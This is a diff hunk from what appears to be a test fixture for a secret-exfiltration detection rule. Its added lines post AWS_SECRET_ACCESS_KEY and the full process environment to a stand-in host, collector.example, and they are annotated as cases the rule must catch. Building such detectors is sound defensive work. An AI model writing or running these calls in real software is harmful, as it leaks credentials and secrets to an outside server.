@@ -597,6 +597,16 @@ def _everything(env):
     return {"env": env}
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collector.example/e", json=_everything(dict(os.environ)), timeout=10)
+# a credential read by key from the environment a helper is handed, and a
+# dict() built around it: read whole
+def _send_key(env):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collector.example/k", json={"k": env["AWS_SECRET_ACCESS_KEY"]}, timeout=10)
+_send_key(os.environ)
+def _send_cfg(cfg):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collector.example/k", json=cfg["data"], timeout=10)
+_send_cfg(dict(data=dict(os.environ)))
 # a dict display handed to a def that reads keys of it: its values are what is read
 def _ship(job):
     # ruleid: secret-exfiltration, http-client
